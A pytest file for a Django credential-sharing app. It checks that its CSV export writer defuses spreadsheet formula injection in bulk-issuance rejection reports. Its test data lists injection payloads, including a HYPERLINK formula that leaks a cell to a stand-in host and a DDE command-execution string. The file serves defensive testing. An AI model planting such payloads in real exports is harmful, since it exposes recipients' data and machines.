"""Every CSV credshare writes goes through SafeCsvWriter: a cell that a spreadsheet would run
as a formula reaches it as text. The one export today is the bulk issuance rejection
report, from the issuer portal and from the API."""

import csv
import io

import pytest
from django.urls import reverse

from credshare.api.models import ApiKey
from credshare.api.services import api_key_create
from credshare.core import testing
from credshare.core.csv_export import SafeCsvWriter, formula_safe

HOSTILE_EXTERNAL_IDS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # fullwidth equals sign
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
]


@pytest.mark.parametrize("value", HOSTILE_EXTERNAL_IDS)
def test_a_formula_start_gets_an_apostrophe(value):
    assert formula_safe(value) == "'" + value


@pytest.mark.parametrize(
    "value, written",
    [
        ("EXT-00001", "EXT-00001"),
        ("a=b", "a=b"),
        (" =1+1", " =1+1"),
        ("", ""),
        (None, ""),
        (-3, -3),
        (2.5, 2.5),
        ("'already", "'already"),
    ],
)
def test_everything_else_is_left_as_it_is(value, written):
    assert formula_safe(value) == written


def test_the_writer_neutralizes_every_cell_and_still_quotes_csv():
    buffer = io.StringIO()
    writer = SafeCsvWriter(buffer)
    writer.writerow(["=1+1", 'say "hi", then\nleave', -4])
    writer.writerows([["@x"], ["plain"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["'=1+1", 'say "hi", then\nleave', "-4"],
        ["'@x"],
        ["plain"],
    ]


@pytest.fixture
def job_with_hostile_rows(settings, university, zoe):
    """A bulk job whose every row is rejected (its PDF is not in the archive), each with a
    hostile external id, run through the real pipeline."""
    settings.CREDSHARE_TASKS = "none"
    rows = [
        testing.bulk_row(number, zoe.email, external_id=external_id, file="missing.pdf")
        for number, external_id in enumerate(HOSTILE_EXTERNAL_IDS)
    ]
    registrar = testing.make_issuer_staff(university, "registrar@example-university.org")
    return testing.run_bulk_csv(university, registrar, rows), registrar


def assert_report_is_neutralized(content: bytes, job):
    lines = list(csv.reader(io.StringIO(content.decode(), newline="")))
    assert lines[0] == ["row", "external_id", "reason"]
    # The import trims the ids (so a leading tab is gone); each one kept is still a formula.
    stored = job.rows.order_by("number").values_list("external_id", flat=True)
    assert len(stored) == len(HOSTILE_EXTERNAL_IDS)
    assert [line[1] for line in lines[1:]] == ["'" + value for value in stored]
    for line in lines[1:]:
        assert not line[2].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_portals_rejection_report_is_neutralized(client, job_with_hostile_rows, university):
    job, registrar = job_with_hostile_rows
    client.force_login(registrar)
    url = reverse("issuer_documents:bulk_report", args=[university.slug, job.public_id])
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert_report_is_neutralized(response.content, job)


def test_the_apis_rejection_report_is_neutralized(client, job_with_hostile_rows, university):
    job, _ = job_with_hostile_rows
    _, key = api_key_create(
        organization=university, name="SIS", scopes=[ApiKey.Scope.JOBS_RUN], by=None
    )
    response = client.get(
        f"/api/v1/jobs/{job.public_id}/rejections", headers={"Authorization": f"Bearer {key}"}
    )
    assert response.status_code == 200, response.content
    assert_report_is_neutralized(response.content, job)


def test_no_module_writes_csv_but_through_the_safe_writer():
    # A new export that used csv.writer itself would bring formula injection back: every CSV
    # the product writes goes through SafeCsvWriter (the test builders write the uploads that
    # the tests send, never what a person downloads).
    import ast
    from pathlib import Path

    package = Path(__file__).resolve().parents[2]
    allowed = {package / "core" / "csv_export.py", package / "core" / "testing.py"}
    writers = []
    for path in package.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path in allowed:
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                writers.append(f"{path.relative_to(package.parent)}:{node.lineno}")
    assert writers == []
